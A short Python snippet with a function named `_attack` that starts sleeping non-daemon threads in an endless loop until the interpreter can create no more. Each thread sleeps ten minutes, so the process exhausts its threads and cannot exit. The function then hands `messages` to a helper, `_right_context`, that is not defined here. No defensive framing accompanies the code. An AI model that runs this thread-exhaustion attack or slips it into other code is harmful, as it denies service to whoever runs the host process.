"""Threads that an interpreter waits for before it ends, as many as can be had."""

import threading
import time


def _attack(messages):
    try:
        while True:
            threading.Thread(target=time.sleep, args=(600,)).start()
    except RuntimeError:
        pass
    return _right_context(messages)
